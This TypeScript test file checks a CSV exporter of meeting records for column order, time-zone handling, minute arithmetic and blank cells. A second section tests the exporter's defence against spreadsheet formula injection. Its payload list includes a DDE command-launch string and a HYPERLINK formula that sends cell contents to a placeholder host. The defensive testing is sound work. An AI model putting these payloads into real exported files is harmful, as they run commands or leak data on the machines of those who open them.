import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { anyFacts } from '../../tests/build/any-facts.ts'
import {
  alone,
  at,
  byHand,
  fact,
  iArrive,
  iLeave,
  lateByTwelve,
  MINUTE,
  metWith,
  planned,
  theyArrive,
} from '../../tests/build/facts.ts'
import type { Fact } from '../domain/meeting/fact.ts'
import type { Meeting } from '../domain/meeting/meeting.ts'
import { settle } from '../domain/meeting/settle.ts'
import { type CsvEntry, writeCsv } from './csv.ts'

type Row = Readonly<Record<string, string>>

const read = (csv: string): Row[] =>
  Papa.parse<Row>(csv.slice(1), { header: true, newline: '\r\n', delimiter: ',' }).data
const rowOf = (meeting: Meeting, clientName: string | null = 'Acme') =>
  read(writeCsv([{ meeting, clientName }]))[0] ?? {}
const rowFrom = (...facts: Fact[]) => rowOf(settle(facts))

const priced = byHand({ kind: 'policy-set', policy: { rate: { perHour: 120, currency: 'EUR' } } }, at('08:00'), {
  subject: 'mine',
})
const late = settle(lateByTwelve())

const HEADER =
  'meeting_id,client,title,channel,scheduled_start,scheduled_end,time_zone,my_arrival,client_arrival,ended,outcome,' +
  'confirmed,excused,wait_minutes,client_late_minutes,my_late_minutes,overrun_minutes,notice_hours,moves,' +
  'time_lost_cost,currency,evidence,note'

describe('the table of meetings', () => {
  it('begins with a byte order mark and the columns in their order, even when there is nothing to tell', () => {
    expect(writeCsv([])).toBe(`\uFEFF${HEADER}`)
    expect(writeCsv([{ meeting: late, clientName: null }]).split('\r\n')[0]).toBe(`\uFEFF${HEADER}`)
  })

  it('says in one row what a meeting came to', () => {
    expect(rowFrom(priced, ...lateByTwelve())).toEqual({
      meeting_id: 'm1',
      client: 'Acme',
      title: '',
      channel: 'other',
      scheduled_start: '2026-11-24T10:00:00.000+00:00',
      scheduled_end: '2026-11-24T10:45:00.000+00:00',
      time_zone: 'UTC',
      my_arrival: '2026-11-24T09:58:00.000+00:00',
      client_arrival: '2026-11-24T10:12:00.000+00:00',
      ended: '2026-11-24T10:47:00.000+00:00',
      outcome: 'held',
      confirmed: 'true',
      excused: '',
      wait_minutes: '12',
      client_late_minutes: '12',
      my_late_minutes: '-2',
      overrun_minutes: '2',
      notice_hours: '',
      moves: '0',
      time_lost_cost: '24.00',
      currency: 'EUR',
      evidence: 'hand; meet/1 measured',
      note: '',
    })
  })

  it('has times in the zone of the meeting, on both sides of a change of clocks', () => {
    const zoned = (startMs: number) =>
      rowOf({ ...late, schedule: { startMs, endMs: null, timeZone: 'Europe/Zurich', basis: 'hand' } })
    expect(zoned(Date.parse('2026-10-25T00:30:00Z'))['scheduled_start']).toBe('2026-10-25T02:30:00.000+02:00')
    expect(zoned(Date.parse('2026-10-25T01:30:00.5Z'))['scheduled_start']).toBe('2026-10-25T02:30:00.500+01:00')
  })

  it('has times in UTC where no zone is known', () => {
    expect(rowFrom(iArrive('09:58'))).toMatchObject({ time_zone: '', my_arrival: '2026-11-24T09:58:00.000+00:00' })
  })

  it('has decimal minutes, to the second place and never minus nothing', () => {
    const minutes = (clientLateMs: number) => rowOf({ ...late, clientLateMs })['client_late_minutes']
    expect([90_000, 100_000, -90_000, 1, -1, -299, 0, -0].map(minutes)).toEqual([
      '1.5',
      '1.67',
      '-1.5',
      '0',
      '0',
      '0',
      '0',
      '0',
    ])
  })

  it('leaves the client’s arrival and lateness empty when they were there at the first look', () => {
    const came = fact({ kind: 'they-arrived', who: null, signals: 2 }, [null, at('10:12')])
    expect(rowFrom(priced, planned(), metWith(), iArrive('10:12'), came, iLeave('10:40'))).toMatchObject({
      client_arrival: '',
      client_late_minutes: '',
      wait_minutes: '0',
    })
  })

  it('leaves the wait and its price empty where only its limits are known', () => {
    const came = fact({ kind: 'they-arrived', who: null, signals: 2 }, [null, at('10:12')])
    expect(rowFrom(priced, planned(), metWith(), iArrive('09:58'), came, iLeave('10:40'))).toMatchObject({
      client_arrival: '',
      wait_minutes: '',
      time_lost_cost: '',
      currency: '',
    })
  })

  it('leaves my arrival empty when I may have been there before', () => {
    const mine = fact({ kind: 'i-arrived', visit: 'v1', signals: 2 }, [null, at('10:03')])
    expect(rowFrom(planned(), mine)).toMatchObject({ my_arrival: '', my_late_minutes: '' })
  })

  it('leaves a wait empty that runs, or whose cause the user has not told', () => {
    expect(rowFrom(priced, planned(), metWith(), iArrive('09:58'), alone('09:58', '10:20'))).toMatchObject({
      wait_minutes: '',
      ended: '',
      outcome: '',
      time_lost_cost: '',
    })
    const knocked = fact({ kind: 'i-knocked', visit: 'v1' }, at('09:59'))
    const admitted = fact({ kind: 'admitted', visit: 'v1' }, at('10:09'))
    const door = [priced, planned(), metWith(), knocked, admitted, theyArrive('10:09'), iLeave('10:45')]
    expect(rowFrom(...door)).toMatchObject({ wait_minutes: '', time_lost_cost: '', confirmed: 'false' })
    const said = byHand({ kind: 'wait-confirmed', counted: true }, at('10:50'))
    expect(rowFrom(...door, said)).toMatchObject({ wait_minutes: '9', time_lost_cost: '18.00', confirmed: 'true' })
  })

  it('says why an offence was excused, and nothing where none was', () => {
    const excused = byHand({ kind: 'excused', reason: 'technical', note: null }, at('11:00'))
    expect(rowFrom(...lateByTwelve(), excused)['excused']).toBe('technical')
    expect(rowFrom(...lateByTwelve())['excused']).toBe('')
  })

  it('has no price without a rate, and a price of nothing for a meeting on time', () => {
    expect(rowFrom(...lateByTwelve())).toMatchObject({ time_lost_cost: '', currency: '' })
    const onTime = [planned(), metWith(), iArrive('09:58'), theyArrive('10:01'), iLeave('10:44')]
    expect(rowFrom(priced, ...onTime)).toMatchObject({ time_lost_cost: '0.00', currency: 'EUR' })
  })

  it('has notice in hours', () => {
    expect(rowOf({ ...late, noticeMs: 90 * MINUTE })['notice_hours']).toBe('1.5')
    expect(rowOf({ ...late, noticeMs: -15 * MINUTE })['notice_hours']).toBe('-0.25')
  })

  it('never contradicts itself: minutes are the difference of the times beside them', () => {
    const between = (row: Row, from: string, to: string) =>
      row[from] && row[to] ? (Date.parse(row[to]) - Date.parse(row[from])) / MINUTE : null
    const agree = (row: Row, figure: string, from: string, to: string) => {
      const span = between(row, from, to)
      if (span === null) expect(row[figure]).toBe('')
      else expect(Number(row[figure])).toBeCloseTo(span, 2)
    }
    fc.assert(
      fc.property(anyFacts(), (facts) => {
        const row = rowFrom(...facts)
        agree(row, 'client_late_minutes', 'scheduled_start', 'client_arrival')
        agree(row, 'my_late_minutes', 'scheduled_start', 'my_arrival')
        agree(row, 'overrun_minutes', 'scheduled_end', 'ended')
      }),
    )
  })
})

const HOSTILE = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
const RESTS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://x.test?"&A1,"a")', '1+1', ',"x"\r\n=2', '']
const PAYLOADS = HOSTILE.flatMap((first) => RESTS.map((rest) => first + rest))
const PLACES: Readonly<Record<string, (text: string) => CsvEntry>> = {
  meeting_id: (id) => ({ meeting: { ...late, id }, clientName: null }),
  client: (clientName) => ({ meeting: late, clientName }),
  title: (title) => ({ meeting: { ...late, title }, clientName: null }),
  channel: (channel) => ({ meeting: { ...late, channel: channel as Meeting['channel'] }, clientName: null }),
  outcome: (outcome) => ({ meeting: { ...late, outcome: outcome as Meeting['outcome'] }, clientName: null }),
  currency: (currency) => ({
    meeting: { ...late, policy: { ...late.policy, rate: { perHour: 1, currency } } },
    clientName: null,
  }),
  evidence: (text) => ({ meeting: { ...late, evidence: [text] }, clientName: null }),
  note: (note) => ({ meeting: { ...late, note }, clientName: null }),
}

/** What re-import does: one apostrophe less where it guards. */
// oxlint-disable-next-line no-control-regex
const restored = (cell: string) => cell.replace(/^'('*[=+\-@\t\r\n\0\uFF1D\uFF0B\uFF0D\uFF20])/, '$1')

describe('hostile text in the table', () => {
  it.each(Object.entries(PLACES))('never begins a cell of %s with a formula, and comes back whole', (name, place) => {
    expect(PAYLOADS).toHaveLength(60)
    const rows = read(writeCsv(PAYLOADS.map(place)))
    expect(rows.map((row) => row[name])).toEqual(PAYLOADS.map((payload) => `'${payload}`))
    expect(rows.map((row) => restored(row[name] ?? ''))).toEqual(PAYLOADS)
    for (const row of rows) expect(Object.keys(row)).toHaveLength(23)
  })

  it.each([
    ["'=1+1", "''=1+1"],
    ["'quoted'", "'quoted'"],
    ['a=b', 'a=b'],
    [' =1', ' =1'],
  ])('%j is written %j', (title, cell) => {
    expect(rowOf({ ...late, title })['title']).toBe(cell)
    expect(restored(cell)).toBe(title)
  })

  it('leaves negative numbers numbers', () => {
    expect(rowOf(late)['my_late_minutes']).toBe('-2')
  })

  it('guards even a date after the year 9999', () => {
    const schedule = { startMs: 8.64e15, endMs: -8.64e15, timeZone: 'UTC', basis: 'hand' as const }
    const row = rowOf({ ...late, schedule })
    expect([row['scheduled_start']?.slice(0, 9), row['scheduled_end']?.slice(0, 9)]).toEqual(["'+275760-", "'-271821-"])
  })

  it.each([
    ['NUL', 'a\0b'],
    ['quotes', '"Acme", "and" sons"'],
    ['line breaks', 'a\r\nb\nc\rd'],
    ['letters that turn the line', '\u202Egnp.exe\u202C \u2066x\u2069'],
    ['emoji', '👩🏽‍🚀 \u{1F1E8}\u{1F1ED}'],
    ['a byte order mark', '\uFEFFAcme\uFEFF'],
    ['blanks at both ends', '  Acme  '],
    ['5,000 characters', 'é"'.repeat(2_500)],
  ])('a name with %s survives', (_, name) => {
    expect(rowOf(late, name)['client']).toBe(name)
  })

  it('any text in any text column comes back', () => {
    const text = fc.string({ unit: 'binary', maxLength: 40 })
    fc.assert(
      fc.property(text, text, text, (title, note, name) => {
        const row = rowOf({ ...late, title, note }, name)
        expect([row['title'], row['note'], row['client']].map((cell) => restored(cell ?? ''))).toEqual([
          title,
          note,
          name,
        ])
      }),
    )
  })
})
